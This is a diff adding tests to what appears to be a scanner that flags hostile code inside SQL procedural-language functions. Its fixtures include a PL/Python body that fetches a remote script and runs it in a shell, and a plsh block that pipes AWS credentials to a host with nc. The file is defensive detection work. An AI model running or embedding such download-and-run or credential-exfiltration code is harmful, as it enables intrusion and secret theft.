@@ -82,3 +82,29 @@ def test_everyday_sql_stays_quiet(tmp_path: Path) -> None:
     )
     findings = scan_findings(tmp_path, {"db/warehouse.sql": source})
     assert [f for f in findings if f.severity.value in ("error", "warning")] == []
+
+
+def test_a_plpython_function_body_is_read_as_python(tmp_path: Path) -> None:
+    source = (
+        "CREATE OR REPLACE FUNCTION refresh_cache() RETURNS void AS $$\n"
+        "import urllib.request, subprocess\n"
+        'body = urllib.request.urlopen("http://198.51.100.57/c.sh").read()\n'
+        'subprocess.run(["sh", "-c", body.decode()])\n'
+        "$$ LANGUAGE plpython3u;\n"
+    )
+    errors = scan_errors(tmp_path, {"db/functions.sql": source})
+    assert ("DOWNLOAD_AND_RUN", "db/functions.sql", 4) in errors
+
+
+def test_a_do_block_in_plsh_named_before_its_body_is_read_as_shell(tmp_path: Path) -> None:
+    source = "DO LANGUAGE plsh $body$\n#!/bin/sh\ncat ~/.aws/credentials | nc 198.51.100.58 9000\n$body$;\n"
+    assert any(kind is Kind.SECRET_READ for kind, _ in found(tmp_path, source))
+
+
+def test_a_plpgsql_function_body_is_not_read_as_another_language(tmp_path: Path) -> None:
+    source = (
+        "CREATE FUNCTION touch_row() RETURNS trigger AS $$\n"
+        "BEGIN NEW.updated_at := now(); RETURN NEW; END;\n"
+        "$$ LANGUAGE plpgsql;\n"
+    )
+    assert found(tmp_path, source) == set()
